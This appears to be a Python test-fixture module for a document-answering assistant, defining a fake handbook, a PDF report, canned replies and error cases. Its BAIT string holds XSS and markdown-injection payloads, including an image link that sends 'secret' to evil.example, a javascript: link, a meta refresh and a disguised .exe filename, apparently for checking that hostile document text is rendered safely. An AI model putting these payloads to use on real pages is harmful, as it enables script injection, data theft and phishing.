"""An assistant that answers from a handbook and a report in a folder; and what a hostile document says."""

from dataclasses import replace
from pathlib import Path

from index.errors import ModelUnavailable, QuestionError
from index.passage import Document, Heading
from index.read import read_file
from index.sync import Unreadable
from tests.fake_assistant import FakeAssistant, FakeLibrary, cite, near
from tests.small_pdf import pdf

REFUND = "Refunds are paid within 14 days of the return."
DESK = "The support desk is open from nine to five on working days."
FILLER = "\n\n".join(
    f"Section {n}. " + "The works council is heard before anything is decided. " * 6 for n in range(20)
)
HANDBOOK = Document(
    "handbook.md",
    "Employee handbook",
    f"Employee handbook\n\nWelcome to the company.\n\n{FILLER}\n\n{REFUND} {DESK}\n\n{FILLER}",
    headings=(Heading(0, 1, "Employee handbook"),),
)
DECIDED = "The committee met in Geneva and decided nothing."
TOO_LONG = "a question may have 4,000 characters; this one has 5,000"
BAIT = (
    '<img src=x onerror="window.PWNED=1"> ${window.PWNED=2} {{value}} <script>window.PWNED=3</script> '
    "![x](http://evil.example/?q=secret) [x](javascript:window.PWNED=4) "
    "<form action=http://evil.example><input></form> "
    '<div style="position:fixed;inset:0;background:red">overlay</div> http://evil.example www.evil.example '
    "<meta http-equiv=refresh content=0;url=http://evil.example> \u202egnp.exe `code` **bold** # h $$x$$ C:\\users"
)


def report_in(folder: Path) -> Document:
    """Write a PDF of three pages and read it as the index does."""
    said = ("Nothing to report.", DECIDED, "Nothing to report.")
    pages = [f"Part {number}. {words} " + "Filling words. " * 40 for number, words in enumerate(said, start=1)]
    (folder / "report.pdf").write_bytes(pdf(*pages))
    document, _ = read_file(folder / "report.pdf", "report.pdf")
    return replace(document, title="Report", notices=("page 3 of 3 holds no text",))


def handbook_assistant(folder: Path) -> FakeAssistant:
    """Return an assistant over the handbook and the report, whose file is written to `folder`."""
    report = report_in(folder)
    library = FakeLibrary([HANDBOOK, report], folder, unreadable=[Unreadable("scan.pdf", "it holds no text")])
    replies = {
        "How long?": (f"{REFUND} [1] {DECIDED} [2]", (cite(1, HANDBOOK, REFUND), cite(2, report, DECIDED))),
        "And the desk?": (f"{DESK} [1]", (cite(1, HANDBOOK, DESK),)),
        "All?": (f"{REFUND} [1] {DESK} [2]", (cite(1, HANDBOOK, REFUND), cite(2, HANDBOOK, DESK))),
        "Slow?": ("word " * 400 + "[1]", (cite(1, HANDBOOK, REFUND),)),
        "Too long?": QuestionError(TOO_LONG),
        "No model?": ModelUnavailable("the embedding model cannot be loaded; run `make install` again"),
        "Bug?": ZeroDivisionError("a bug"),
    }
    nearest = [near(HANDBOOK, DESK), near(report, DECIDED)]
    standalone = {"And the desk?": "When is the support desk open?"}
    return FakeAssistant(library, replies, nearest=nearest, standalone=standalone, pause=0.01)
